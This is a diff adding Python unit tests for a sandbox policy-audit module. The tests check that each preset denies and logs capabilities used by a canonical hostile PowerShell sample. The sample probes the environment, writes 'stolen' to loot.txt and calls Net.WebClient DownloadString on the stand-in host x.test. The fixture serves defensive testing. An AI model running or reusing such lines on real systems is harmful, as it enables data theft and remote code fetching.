@@ -1,0 +1,142 @@
+"""PolicyAudit unit tests plus the per-preset audit-event goldens.
+
+The golden files pin what each preset *does* on one canonical hostile
+script: which capabilities it denies, which audit events it emits, and
+what budget it spends.  Regenerate after an intentional policy change
+with ``PYTHONPATH=src python tests/policy/regen_golden.py``.
+"""
+
+import json
+import os
+
+from repro.obs.trace import (
+    SpanRecorder,
+    TraceContext,
+    activate_recorder,
+    deactivate_recorder,
+)
+from repro.policy import (
+    PRESET_NAMES,
+    PRESETS,
+    PolicyAudit,
+    SandboxPolicy,
+)
+
+GOLDEN_DIR = os.path.join(os.path.dirname(__file__), "golden")
+
+# One canonical hostile sample: an environment probe, a blocklisted
+# command, a filesystem write, and a network member call — every
+# capability kind a preset might deny, in a fixed order.
+GOLDEN_SCRIPT = (
+    "$name = $env:COMPUTERNAME\n"
+    "Start-Sleep -Seconds 1\n"
+    "Set-Content -Path 'loot.txt' -Value 'stolen'\n"
+    "(New-Object Net.WebClient).DownloadString('http://x.test/')\n"
+    "Write-Output ('a'+'b')\n"
+)
+
+
+def audit_snapshot(preset_name: str) -> dict:
+    """Run the golden script under *preset_name*; return the audit's
+    JSON-ready shape (shared with regen_golden.py)."""
+    from repro.verify import observe_behavior
+
+    report = observe_behavior(
+        GOLDEN_SCRIPT, policy=PRESETS[preset_name]
+    )
+    audit = report.audit
+    return {
+        "policy": preset_name,
+        "denials": audit.denial_counts(),
+        "events": [event.to_dict() for event in audit.events],
+        "budget": audit.budget_spent(),
+    }
+
+
+class TestAuditGolden:
+    def test_each_preset_matches_its_golden(self):
+        for name in PRESET_NAMES:
+            with open(
+                os.path.join(GOLDEN_DIR, f"{name}.json"),
+                encoding="utf-8",
+            ) as handle:
+                golden = json.load(handle)
+            assert audit_snapshot(name) == golden, (
+                f"preset {name} diverged from its audit golden — "
+                "if intentional, regenerate with "
+                "tests/policy/regen_golden.py"
+            )
+
+    def test_paranoid_denies_every_capability_it_claims(self):
+        snapshot = audit_snapshot("wild-sample-paranoid")
+        assert snapshot["denials"].get("env")
+        assert snapshot["denials"].get("effect")
+        rules = {event["rule"] for event in snapshot["events"]}
+        assert "deny_env_reads" in rules
+        assert any(rule.startswith("deny_effects:") for rule in rules)
+
+    def test_observing_preset_denies_nothing(self):
+        snapshot = audit_snapshot("verify-observing")
+        assert snapshot["denials"] == {}
+        assert snapshot["events"] == []
+
+
+class TestPolicyAudit:
+    def test_denials_always_counted(self):
+        # Even an audit-silent policy counts what it refused.
+        audit = PolicyAudit(SandboxPolicy())
+        audit.record("command", "Start-Sleep", "deny", "blocklist")
+        assert audit.denial_counts() == {"command": 1}
+        assert audit.events == []
+
+    def test_events_emitted_when_policy_asks(self):
+        audit = PolicyAudit(SandboxPolicy(audit_denials=True))
+        audit.record("env", "PATH", "deny", "deny_env_reads")
+        (event,) = audit.events
+        assert event.capability == "env"
+        assert event.action == "deny"
+        assert event.rule == "deny_env_reads"
+
+    def test_allowed_events_off_by_default(self):
+        audit = PolicyAudit(SandboxPolicy(audit_denials=True))
+        audit.record("command", "Write-Output", "allow", "default")
+        assert audit.events == []
+
+    def test_event_log_is_bounded(self):
+        audit = PolicyAudit(
+            SandboxPolicy(audit_denials=True), max_events=2
+        )
+        for index in range(5):
+            audit.record("command", f"cmd{index}", "deny", "blocklist")
+        assert len(audit.events) == 2
+        assert audit.events_dropped == 3
+        assert audit.denial_counts() == {"command": 5}  # counters go on
+
+    def test_events_join_the_active_trace(self):
+        audit = PolicyAudit(SandboxPolicy(audit_denials=True))
+        recorder = SpanRecorder(
+            context=TraceContext.new(), process="test"
+        )
+        activate_recorder(recorder)
+        try:
+            audit.record("effect", "net.request", "deny",
+                         "deny_effects:net.")
+        finally:
+            deactivate_recorder()
+        audit.record("effect", "net.request", "deny", "deny_effects:net.")
+        first, second = audit.events
+        assert first.trace_id == recorder.trace_id
+        assert second.trace_id == ""
+        assert first.to_dict()["trace_id"] == recorder.trace_id
+        assert "trace_id" not in second.to_dict()
+
+    def test_add_budget_accumulates(self):
+        from repro.runtime.limits import ExecutionBudget
+
+        audit = PolicyAudit(SandboxPolicy())
+        budget = ExecutionBudget(step_limit=100)
+        budget.step()
+        budget.step()
+        audit.add_budget(budget)
+        audit.add_budget(budget)
+        assert audit.budget_spent() == {"steps": 4}
